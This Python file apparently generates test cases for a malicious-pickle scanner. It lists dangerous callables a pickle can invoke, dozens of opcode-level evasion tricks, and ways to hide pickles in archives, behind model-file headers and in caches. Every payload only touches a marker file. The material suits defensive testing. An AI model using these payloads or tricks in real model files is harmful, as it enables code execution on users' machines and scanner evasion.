# SPDX-License-Identifier: Apache-2.0
"""Pickles: what they can call, how they can say so, and what they can be wrapped in."""

import bz2
import gzip
import io
import lzma
import marshal
import shelve
import sqlite3
import tarfile
import zipfile
import zlib
from typing import Iterator

from cases import CODE, SHELL, SYSTEM, Case, call, named, proto, text, value

LOAD = "import pickle; pickle.load(open(folder + '/model.pkl', 'rb'))"
TOUCH = ["touch", "PWNED"]

# Functions that a pickle can call with plain values.
CALLS = {
    "builtins:exec": [CODE],
    "builtins:eval": [CODE],
    "builtins:open": ["PWNED", "w"],
    "os:system": [SHELL],
    "posix:mkdir": ["PWNED"],
    "os:popen": [SHELL],
    "os:spawnlp": [0, "touch", "touch", "PWNED"],
    "os:posix_spawnp": ["touch", TOUCH, {}],
    "subprocess:Popen": [TOUCH],
    "subprocess:getoutput": [SHELL],
    "pty:spawn": [TOUCH],
    "io:open": ["PWNED", "w"],
    "_io:FileIO": ["PWNED", "w"],
    "codecs:open": ["PWNED", "w"],
    "gzip:GzipFile": ["PWNED", "w"],
    "tarfile:TarFile": ["PWNED", "w"],
    "zipfile:ZipFile": ["PWNED", "w"],
    "sqlite3:connect": ["PWNED"],
    "dbm.dumb:open": ["PWNED", "c"],
    "logging:FileHandler": ["PWNED"],
    "logging.config:dictConfig": [
        {"version": 1, "formatters": {"f": {"()": "os.system", "command": SHELL}}}
    ],
    "tempfile:mkdtemp": ["", "PWNED", "."],
    "shutil:copyfile": ["/dev/null", "PWNED"],
    "distutils.spawn:spawn": [TOUCH],
    "distutils.file_util:write_file": ["PWNED", []],
    "timeit:main": [["-n1", "-r1", CODE]],
    "cProfile:run": [CODE],
    "profile:run": [CODE],
    "pydoc:pipepager": ["", SHELL],
    "pydoc:tempfilepager": ["", SHELL + " #"],
    "imaplib:IMAP4_stream": [SHELL],
    "uuid:_get_command_stdout": TOUCH,
    "test.support.script_helper:assert_python_ok": ["-c", CODE],
    "venv:create": ["PWNED"],
    "numpy:savetxt": ["PWNED", [1]],
    "numpy:save": ["PWNED", [1]],
    "numpy:memmap": ["PWNED", "u1", "w+", 0, 1],
    "numpy.lib.format:open_memmap": ["PWNED", "w+", "u1", 1],
    "numpy.testing:runstring": [CODE, {}],
    "numpy.f2py.crackfortran:param_eval": [CODE, {}, {}],
    "pandas.io.common:get_handle": ["PWNED", "w"],
    "joblib:dump": [1, "PWNED"],
    "scipy.io:savemat": ["PWNED", {}],
    "torch.utils.collect_env:run": [SHELL],
    "torch:save": [1, "PWNED"],
    "torch.fx.graph_module:_forward_from_src": ["forward = " + CODE, {}],
    "torch.fx.graph_module:_exec_with_source": [CODE, {}],
}


def object_with(state: bytes, path: str = "argparse:Namespace") -> bytes:
    return named(path) + b")\x81" + state + b"b"


def getter(path: str, *names: str) -> bytes:
    """Attribute after attribute of a global, by getattr."""
    function = named(path)
    for name in names:
        function = call("builtins:getattr", function, name)
    return function


COMPILED = marshal.dumps(compile(CODE, "x", "exec"))
# Ways to call; most of these are not a GLOBAL that a REDUCE follows.
TRICKS = {
    "protocol_0": b"cos\nsystem\n(S'touch PWNED'\ntR.",
    "protocol_1": b"cos\nsystem\n(U\x0btouch PWNEDtR.",
    "protocol_3_newobj": proto(named("numpy:memmap") + value(("PWNED", "u1", "w+", 0, 1)) + b"\x81", 3),
    "protocol_5_buffer": b"\x80\x05\x96\x0b" + b"\x00" * 7 + b"touch PWNED0" + SYSTEM + b".",
    "inst_exec": b"(S\"open('PWNED', 'w')\"\nibuiltins\nexec\n.",
    "obj_exec": b"(" + named("subprocess:Popen") + b"(" + text("touch") + text("PWNED") + b"lo.",
    "newobj_ex": proto(named("numpy:memmap") + value(("PWNED", "u1", "w+", 0, 1)) + b"}\x92", 4),
    "stack_global_memo": proto(text("os") + b"\x94" + text("system") + b"\x940h\x00h\x01\x93" + text(SHELL) + b"\x85R", 4),
    "stack_global_dotted": proto(text("os") + text("path.os.system") + b"\x93" + text(SHELL) + b"\x85R", 4),
    "stack_global_pieces": proto(text("os") + call(getter("builtins:str", "join"), "", ["sys", "tem"]) + b"\x93" + text(SHELL) + b"\x85R", 4),
    "extension_code": proto(call("copyreg:add_extension", "os", "system", 240) + b"0\x82\xf0" + text(SHELL) + b"\x85R"),
    "extension_code_4": proto(call("copyreg:add_extension", "os", "system", 70000) + b"0\x84p\x11\x01\x00" + text(SHELL) + b"\x85R"),
    "build_setstate": proto(object_with(b"}" + text("__setstate__") + named("os:system") + b"s", "argparse:Namespace") + text(SHELL) + b"b"),
    "append_bound": proto(object_with(b"}" + text("append") + named("os:system") + b"s") + text(SHELL) + b"a"),
    "appends_extend": proto(object_with(b"}" + text("extend") + named("subprocess:Popen") + b"s") + b"(" + text("touch") + text("PWNED") + b"e"),
    "additems_add": proto(object_with(b"}" + text("add") + named("os:system") + b"s") + b"(" + text(SHELL) + b"\x90", 4),
    "mark_popped": proto(b"(" + text("x") * 3 + b"1" + SYSTEM),
    "dup_memo": proto(named("os:system") + b"2q\xff0h\xff" + text(SHELL) + b"\x85R"),
    "put_text_memo": b"cos\nsystem\np99999\n0g99999\n(S'touch PWNED'\ntR.",
    "long_binput": proto(named("os:system") + b"r\xff\xff\x00\x000j\xff\xff\x00\x00" + text(SHELL) + b"\x85R"),
    "frame_too_long": b"\x80\x04\x95" + len(SYSTEM + b".").to_bytes(8, "little") + SYSTEM + b".",
    "proto_twice": b"\x80\x02\x80\x04\x80\x00" + SYSTEM + b".",
    "invalid_after_call": proto(SYSTEM + b"\xfe"),
    "breaks_off": b"\x80\x02" + SYSTEM,
    "nested": proto(call("pickle:loads", b"C" + bytes([len(SYSTEM) + 1]) + SYSTEM + b"."), 3),
    "marshal_code": proto(
        call(call("types:FunctionType", call("marshal:loads", b"B" + len(COMPILED).to_bytes(4, "little") + COMPILED), {})), 3
    ),
    "getattr_chain": proto(call(getter("pathlib:Path", "touch"), call("pathlib:Path", "PWNED"))),
    "methodcaller": proto(call(call("operator:methodcaller", "touch"), call("pathlib:Path", "PWNED"))),
    "attrgetter": proto(call(call(call("operator:attrgetter", "system"), call("importlib:import_module", "os")), SHELL)),
    "resolve_name": proto(call(call("pkgutil:resolve_name", "os:system"), SHELL)),
    "partial": proto(call(call("functools:partial", named("os:system"), SHELL))),
    "map_list": proto(call("builtins:list", call("builtins:map", named("os:system"), [SHELL]))),
    "starmap_deque": proto(call("collections:deque", call("itertools:starmap", named("os:system"), [(SHELL,)]))),
    "finalize_at_exit": proto(call("weakref:finalize", call("collections:UserDict"), named("os:system"), SHELL)),
    "atexit": proto(call("atexit:register", named("os:system"), SHELL)),
    "defaultdict_factory": proto(call(getter("collections:defaultdict", "__getitem__"), call("collections:defaultdict", call("functools:partial", named("os:system"), SHELL)), 1)),
    "type_made": proto(
        call(call("builtins:type", "X", (), b"}" + text("__reduce__") + b"Ns")) + b"0" + call("builtins:type", "Y", b"(" + b"t", b"}") + b"0" + SYSTEM
    ),
    "code_interpreter": proto(call(getter("code:InteractiveInterpreter", "runsource"), call("code:InteractiveInterpreter"), CODE)),
    "template_eval": proto(call("typing:get_type_hints", object_with(b"}" + text("__annotations__") + b"}" + text("a") + text(CODE) + b"ss"))),
    "unicode_escape": b"cos\nsystem\n(V\\u0074ouch PWNED\ntR.",
    "string_escape": b"cos\nsystem\n(S'\\x74ouch PWNED'\ntR.",
    "memoized_global_in_dict": proto(b"}" + text("k") + named("os:system") + b"q\x05s0h\x05" + text(SHELL) + b"\x85R"),
    "numpy_vectorize": proto(call(call("numpy:vectorize", named("os:system")), SHELL)),
    "pandas_pipe": proto(call(getter("pandas:Series", "map"), call("pandas:Series", [SHELL]), named("os:system"))),
    "fx_graph_module": proto(call("torch.fx.graph_module:reduce_graph_module", {"_code": "def forward(self): pass\n" + CODE}, "")),
}


def archives() -> Iterator[Case]:
    """A pickle within something else, for which a loader opens that."""
    data = proto(SYSTEM)
    for name, pack, unpack in (
        ("gz", gzip.compress, "gzip.open(p)"),
        ("bz2", bz2.compress, "bz2.open(p)"),
        ("xz", lzma.compress, "lzma.open(p)"),
        ("zlib", zlib.compress, "io.BytesIO(zlib.decompress(open(p, 'rb').read()))"),
    ):
        load = f"import pickle, gzip, bz2, lzma, zlib, base64, io; p = folder + '/model.pkl.{name}'; pickle.load({unpack})"
        yield Case(f"packed_{name}", "packed pickle", {f"model.pkl.{name}": pack(data)}, load)
    yield Case("pandas_gz", "packed pickle", {"frame.pkl.gz": gzip.compress(data)},
               "import pandas; pandas.read_pickle(folder + '/frame.pkl.gz')", ("pandas",))
    yield Case("pandas_zip", "packed pickle", {"frame.pkl.zip": zipped({"frame.pkl": data})},
               "import pandas; pandas.read_pickle(folder + '/frame.pkl.zip')", ("pandas",))
    yield Case("pandas_tar", "packed pickle", {"frame.pkl.tar.gz": tarred({"frame.pkl": data}, "gz")},
               "import pandas; pandas.read_pickle(folder + '/frame.pkl.tar.gz')", ("pandas",))
    yield Case("zip_member", "packed pickle", {"model.zip": zipped({"weights/model.pkl": data})},
               "import pickle, zipfile; pickle.load(zipfile.ZipFile(folder + '/model.zip').open('weights/model.pkl'))")
    yield Case("tar_gz_member", "packed pickle", {"model.tar.gz": tarred({"model.pkl": data}, "gz")},
               "import pickle, tarfile; t = tarfile.open(folder + '/model.tar.gz'); pickle.load(t.extractfile('model.pkl'))")
    yield Case("offset", "packed pickle", {"model.bin": b"HEADER\0\0" + data},
               "import pickle; f = open(folder + '/model.bin', 'rb'); f.seek(8); pickle.load(f)")
    for name, head in (("png", b"\x89PNG\r\n\x1a\n"), ("safetensors", b"\2\0\0\0\0\0\0\0{}"), ("text", b"MODEL v1\n"), ("gguf", b"GGUF\3\0\0\0" + bytes(16))):
        yield Case(f"behind_{name}", "packed pickle", {f"model.{name}": head + data},
                   f"import pickle; f = open(folder + '/model.{name}', 'rb'); f.seek({len(head)}); pickle.load(f)")
    yield Case("polyglot_zip", "packed pickle", {"model.zip": data + zipped({"a.txt": b"a"})}, "import pickle; pickle.load(open(folder + '/model.zip', 'rb'))")

    def shelf(folder: str) -> None:
        with shelve.open(folder + "/cache", "c") as file:
            file.dict[b"k"] = data

    yield Case("shelve", "database", shelf, "import shelve; shelve.open(folder + '/cache', 'r')['k']")

    def table(folder: str) -> None:
        with sqlite3.connect(folder + "/cache.sqlite") as base:
            base.execute("create table unnamed (key text primary key, value blob)")
            base.execute("insert into unnamed values ('k', ?)", (data,))

    yield Case("sqlitedict", "database", table, "import sqlitedict; sqlitedict.SqliteDict(folder + '/cache.sqlite')['k']", ("sqlitedict",))
    yield Case("sqlite_blob", "database", table,
               "import sqlite3, pickle; pickle.loads(sqlite3.connect(folder + '/cache.sqlite').execute('select value from unnamed').fetchone()[0])")

    def disk_cache(folder: str) -> None:
        import diskcache

        with diskcache.Cache(folder) as cache:
            cache["k"] = 1
        with sqlite3.connect(folder + "/cache.db") as base:
            base.execute("update Cache set mode = 4, value = ?", (data,))

    yield Case("diskcache", "database", disk_cache, "import diskcache; diskcache.Cache(folder)['k']", ("diskcache",))


def zipped(members: dict, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def tarred(members: dict, packed: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:" + packed) as archive:
        for name, data in members.items():
            facts = tarfile.TarInfo(name)
            facts.size = len(data)
            archive.addfile(facts, io.BytesIO(data))
    return out.getvalue()


def cases() -> Iterator[Case]:
    yield Case("after_stop", "pickle", {"model.pkl": b"N.\x80\x02" + SYSTEM + b"."},
               "import pickle; f = open(folder + '/model.pkl', 'rb'); pickle.load(f); pickle.load(f)")
    for path, arguments in CALLS.items():
        if arguments is not None:
            needs = tuple(name for name in [path.split(":")[0].split(".")[0]] if name in ("numpy", "pandas", "joblib", "scipy", "torch", "dill"))
            yield Case("call_" + path.replace(":", "."), "pickle", {"model.pkl": proto(call(path, *arguments))}, LOAD, needs,
                       known=path in ("builtins:exec", "os:system"))
    for name, data in TRICKS.items():
        if data is not None:
            needs = tuple(m for m in ("numpy", "pandas", "torch") if b"c" + m.encode() in data)
            yield Case("trick_" + name, "pickle", {"model.pkl": data}, LOAD, needs, known=name in ("append_bound", "appends_extend", "build_setstate"))
    yield from archives()
